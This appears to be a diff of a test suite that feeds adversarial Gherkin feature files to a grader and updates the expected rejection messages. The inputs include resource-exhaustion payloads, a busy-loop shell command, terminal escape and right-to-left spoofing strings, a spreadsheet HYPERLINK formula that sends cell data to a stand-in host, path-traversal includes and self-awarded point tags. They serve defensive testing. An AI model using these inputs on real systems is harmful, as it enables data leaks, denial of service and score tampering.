@@ -43,7 +43,7 @@ export const FEATURES: readonly Attack[] = [
   attack(
     '1-mb',
     `Feature: f\n${'  words\n'.repeat(120_000)}`,
-    ungradable(/a\.feature: \d+ bytes are too much; 262144 is the limit/),
+    ungradable(/a\.feature: 960011 bytes are too much for one feature; 262144 is the limit/),
   ),
   attack(
     '10000-scenarios',
@@ -57,9 +57,9 @@ export const FEATURES: readonly Attack[] = [
   ),
   attack('1e6-rows-of-an-outline', outline(1_000_000), ungradable(/more than 1048576 bytes/)),
   attack(
-    'outline-of-outlines',
+    'half-a-million-steps',
     `Feature: f\n Background:\n${'  When pod1 pings 8.8.8.8\n'.repeat(5000)}${' Scenario: s\n  When pod1 pings 8.8.8.8\n'.repeat(100)}`,
-    ungradable(/steps; at most/),
+    ungradable(/judging it took longer than 5 s/),
   ),
   attack(
     '101-scenarios',
@@ -69,12 +69,12 @@ export const FEATURES: readonly Attack[] = [
   attack(
     'pattern',
     steps(`When ${'a '.repeat(20_000)}pings ${'1'.repeat(20_000)}!`),
-    ungradable(/a\.feature:3: .*there is no such sentence/),
+    ungradable(/a\.feature:3: a line of 60\d+ characters; at most 1000 are read/),
   ),
   attack(
     'long-argument',
     steps(`When pod1 runs "${'\\"'.repeat(50_000)}`),
-    ungradable(/a\.feature:3: .*there is no such sentence/),
+    ungradable(/a\.feature:3: a line of 100\d+ characters/),
   ),
   attack(
     'command-of-his-own',
@@ -86,19 +86,19 @@ export const FEATURES: readonly Attack[] = [
     steps('When on k8s-m I run "while :; do :; done"'),
     ungradable(/there is no such sentence/),
   ),
-  attack('unknown-language', '# language: xx\nFeature: f\n', ungradable(/a\.feature:1: .*xx/)),
+  attack('unknown-language', '# language: xx\nFeature: f\n', ungradable(/a\.feature:1:1: Language not supported: xx/)),
   attack(
     'unknown-sentence',
     steps('When pod1 hacks 8.8.8.8'),
-    ungradable(/a\.feature:3: When pod1 hacks 8\.8\.8\.8: there is no such sentence/),
+    ungradable(/a\.feature:2: When pod1 hacks 8\.8\.8\.8: there is no such sentence; did you mean {pod}/),
   ),
   attack(
     'syntax',
-    'Feature: f\n  Scenario: s\n    Whenever it rains\n',
-    ungradable(/a\.feature:3: /),
+    'Feature: f\n  Scenario: s\n    Given the lab "kans"\n    Whenever it rains\n',
+    ungradable(/a\.feature:4:5: "Whenever it rains" makes no sense here/),
   ),
-  attack('no-scenario', 'Feature: f\n', graded(0, /a\.feature.*no scenario/)),
-  attack('empty', '', graded(0, /a\.feature.*no scenario/)),
+  attack('no-scenario', 'Feature: f\n', ungradable(/a\.feature:1: there is no scenario/)),
+  attack('empty', '', ungradable(/a\.feature: there is no feature in this file/)),
   attack('points-of-his-own', tagged('@points(1000)'), graded(ALL)),
   attack('tags-like-options', tagged('@--exit @--require=x.js @skip @only @dry-run'), graded(ALL)),
   attack(
@@ -132,7 +132,7 @@ export const FEATURES: readonly Attack[] = [
   attack('escapes', named('\u001b[2J\u001b]0;owned\u0007'), graded(ALL)),
   attack('right-to-left', named('\u202eevoba eht si siht\u2066'), graded(ALL)),
   attack('formula', named('=HYPERLINK("http://x.example/"&A1)'), graded(ALL)),
-  attack('long-title', named('x'.repeat(100_000)), graded(ALL)),
+  attack('long-title', named('x'.repeat(100_000)), ungradable(/a\.feature:2: a line of 100012 characters/)),
   attack(
     'twin-names',
     `${named('twin')}${SAYING.split('\n').slice(1).join('\n').replace('The cali interface answers', 'twin')}`,
@@ -141,6 +141,6 @@ export const FEATURES: readonly Attack[] = [
   attack(
     'includes',
     `${steps('Given the manifests "pods"')}  @import("../../hidden.feature")\n  # include: ../../hidden.feature\n`,
-    ungradable(/a\.feature:\d+: /),
+    ungradable(/a\.feature:6:1: the file ends too early/),
   ),
 ];
